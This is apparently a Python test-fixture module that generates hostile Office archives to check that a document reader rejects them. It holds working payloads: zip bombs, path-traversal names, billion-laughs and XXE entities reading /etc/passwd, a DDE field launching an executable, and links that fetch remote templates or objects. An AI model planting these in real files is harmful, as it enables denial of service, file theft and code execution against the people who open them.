"""Hostile archives, each made from a good one (.docx or .xlsx) by one change, small to make.

`ARCHIVES` are those that any reader must refuse, by what they do; `TEMPLATES` those that a reader
may read and a template may not be. Each takes the bytes of a good file and gives the bad one's.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import partial

from drafter.package import archive, read_archive

Attack = Callable[[bytes], bytes]

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES, _LINKS = "[Content_Types].xml", "word/_rels/document.xml.rels"
_CHUNK = b" " * 1_000_000
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}


def main_part(good: bytes) -> str:
    """The part of a good file that holds its text."""
    return next(name for name in MAIN.values() if name in read_archive(good))


def changed(good: bytes, change: Callable[[str, bytes], bytes], name: str = "") -> bytes:
    """The file with one part changed: its main one unless ``name`` says another."""
    parts = read_archive(good)
    name = name or main_part(good)
    return archive({**parts, name: change(name, parts.get(name, b""))})


def added(good: bytes, parts: Mapping[str, bytes]) -> bytes:
    """The file with more parts."""
    return archive({**read_archive(good), **parts})


def inflating(good: bytes, size: int = 300, lies: bool = False, stored: bool = False) -> bytes:
    """The main part followed by ``size`` million blanks, deflated to a thousandth or ``stored``;
    where it ``lies`` it declares to be of one byte, the sum of which is right: `zipfile` takes
    that byte for the whole.
    """
    parts = read_archive(good)
    name = main_part(good)
    made = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(made, "w", method) as packed:
        for other, part in parts.items():
            if other != name:
                packed.writestr(other, part)
        with packed.open(name, "w") as file:
            file.write(parts[name])
            for _ in range(size):
                file.write(_CHUNK)
    data = made.getvalue()
    if lies:
        data = _declared(data, name, 22, struct.pack("<L", 1))
        data = _declared(data, name, 14, struct.pack("<L", zlib.crc32(parts[name][:1])))
    return data


def _declared(data: bytes, name: str, offset: int, value: bytes) -> bytes:
    """The archive with a field of an entry's header set; ``offset`` is that of the local one, and
    in the directory the field stands two bytes further.
    """
    coded, made = name.encode(), bytearray(data)
    for sign, head, more in ((b"PK\3\4", 30, 0), (b"PK\1\2", 46, 2)):
        at = -1
        while (at := data.find(sign, at + 1)) >= 0:
            if data[at + head : at + head + len(coded)] == coded:
                made[at + offset + more : at + offset + more + len(value)] = value
    return bytes(made)


def many(good: bytes, count: int = 100_000) -> bytes:
    """So many empty parts more."""
    made = io.BytesIO(good)
    with zipfile.ZipFile(made, "a") as packed:
        for number in range(count):
            packed.writestr(zipfile.ZipInfo(f"word/media/{number}"), b"")
    return made.getvalue()


def named(good: bytes, name: str, method: int = zipfile.ZIP_STORED) -> bytes:
    """One entry more, of this name."""
    made = io.BytesIO(good)
    with zipfile.ZipFile(made, "a") as packed:
        packed.writestr(zipfile.ZipInfo(name), b"x", method)
    return made.getvalue()


def doubled(good: bytes) -> bytes:
    """The main part twice, once in capitals: which of them would be read?"""
    name = main_part(good)
    return named(good, name.upper())


def encrypted(good: bytes) -> bytes:
    """The main part marked as encrypted."""
    return _declared(good, main_part(good), 6, struct.pack("<H", 1))


def cut(good: bytes) -> bytes:
    """The file as a broken transfer leaves it."""
    return good[: len(good) * 2 // 3]


def nested(good: bytes, depth: int = 300) -> bytes:
    """So many elements within each other, in the main part."""
    return changed(good, lambda _, __: b"<a>" * depth + b"</a>" * depth)


def flood(good: bytes, count: int = 2_000_000) -> bytes:
    """A part of few bytes and many elements."""
    return changed(good, lambda _, __: b"<a>" + b"<b/>" * count + b"</a>")


def _typed(subset: str, used: str) -> Attack:
    text = f"<!DOCTYPE a [{subset}]><a>{used}</a>".encode()
    return lambda good: changed(good, lambda _, __: text)


_LAUGHS = '<!ENTITY e0 "哈">' + "".join(
    f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)
)
laughs = _typed(_LAUGHS, "&e9;")
quadratic = _typed(f'<!ENTITY e "{"哈" * 100_000}">', "&e;" * 100_000)
fetching = _typed('<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;")
described = _typed("", "文")


def disguised(good: bytes) -> bytes:
    """A document type in UTF-16, where no search for ASCII finds it."""
    return changed(good, lambda _, __: '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'.encode("utf-16"))


def foreign(good: bytes) -> bytes:
    """A part in an encoding where no search for ``<`` finds an element."""
    text = '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-b/+AD4-</a>'
    return changed(good, lambda _, __: text.encode())


ARCHIVES: dict[str, Attack] = {
    "300 MB deflated": inflating,
    "300 MB declared as one byte": partial(inflating, lies=True),
    "100,000 entries": many,
    "two parts of one name": doubled,
    "a name that climbs out": partial(named, name="../../etc/x"),
    "a name that climbs out, by backslashes": partial(named, name="..\\..\\x"),
    "an absolute name": partial(named, name="/etc/x"),
    "a name with a drive": partial(named, name="C:/x"),
    "an encrypted part": encrypted,
    "a part in bzip2": partial(named, name="x", method=zipfile.ZIP_BZIP2),
    "a part in LZMA": partial(named, name="x", method=zipfile.ZIP_LZMA),
    "a cut file": cut,
    "elements 300 deep": nested,
    "elements 40,000 deep": partial(nested, depth=40_000),
    "2,000,000 elements": flood,
    "billion laughs": laughs,
    "a long entity, often": quadratic,
    "an entity that fetches a file": fetching,
    "a document type": described,
    "a document type in UTF-16": disguised,
    "UTF-7": foreign,
}


def related(
    good: bytes, kind: str, target: str, outside: bool = True, part: bytes | None = b"x"
) -> bytes:
    """A relationship of the document more: to something ``outside``, or to a ``part`` within,
    which is made unless it is ``None``.
    """
    mode = ' TargetMode="External"' if outside else ""
    link = f'<Relationship Id="rBad{kind}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'
    parts = read_archive(good)
    links = parts[_LINKS].replace(b"</Relationships>", f"{link}</Relationships>".encode())
    more = {} if outside or part is None else {f"word/{target}": part}
    return archive({**parts, _LINKS: links, **more})


def retyped(good: bytes, kind: str) -> bytes:
    """The document under another content type."""
    return changed(good, lambda _, types: types.replace(_WORD_TYPE, kind.encode()), _TYPES)


def macros(good: bytes) -> bytes:
    """A file with macros, as Word saves it (.docm)."""
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return related(retyped(good, kind), "vbaProject", "vbaProject.bin", outside=False)


def with_field(good: bytes, *pieces: str) -> bytes:
    """A field more, its instruction in several runs, as editors split it."""
    runs = "".join(f'<w:r xmlns:w="{W}"><w:instrText>{one}</w:instrText></w:r>' for one in pieces)
    begin, end = (
        f'<w:r xmlns:w="{W}"><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")
    )
    made = f'<w:p xmlns:w="{W}">{begin}{runs}{end}</w:p><w:sectPr'.encode()
    return changed(good, lambda _, text: made.join(text.rsplit(b"<w:sectPr", 1)))


def pictured(good: bytes) -> bytes:
    """A picture by its address, in the older drawing language."""
    made = (
        f'<w:p xmlns:w="{W}"><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata src="http://192.0.2.1/x.png"/></v:shape></w:pict></w:r></w:p><w:sectPr'
    ).encode()
    return changed(good, lambda _, text: made.join(text.rsplit(b"<w:sectPr", 1)))


def merging(good: bytes) -> bytes:
    """Settings that ask a database for the data of letters."""
    made = b'<w:mailMerge><w:connectString w:val="DSN=x"/><w:query w:val="SELECT 1"/></w:mailMerge>'
    end = b"</w:settings>"
    return changed(good, lambda _, text: text.replace(end, made + end), "word/settings.xml")


_TEMPLATE_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
_MACRO_TYPE = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
FAR = "http://192.0.2.1/x"

TEMPLATES: dict[str, Attack] = {
    "macros": macros,
    "a project of macros under another name": partial(
        related, kind="vbaProject", target="x.bin", outside=False
    ),
    ".dotm": partial(retyped, kind=_MACRO_TYPE),
    ".dotx": partial(retyped, kind=_TEMPLATE_TYPE),
    "an attached template": partial(related, kind="attachedTemplate", target=FAR),
    "a linked picture": partial(related, kind="image", target="file:///C:/x.png"),
    "a linked object": partial(related, kind="oleObject", target=FAR),
    "a hyperlink": partial(related, kind="hyperlink", target=FAR),
    "an address called a part": partial(
        related, kind="image", target="//192.0.2.1/x", outside=False, part=None
    ),
    "an embedded object": partial(
        related, kind="oleObject", target="embeddings/oleObject1.bin", outside=False
    ),
    "an embedded file": partial(related, kind="package", target="embeddings/1.xlsx", outside=False),
    "a control": partial(related, kind="control", target="activeX/activeX1.bin", outside=False),
    "a whole file put in": partial(related, kind="aFChunk", target="chunk.html", outside=False),
    "a field that starts a program": lambda good: with_field(good, " DDE", "AUTO c:\\\\x.exe "),
    "a field that fetches a picture": lambda good: with_field(good, f'INCLUDEPICTURE "{FAR}"'),
    "a picture by its address": pictured,
    "letters from a database": merging,
}
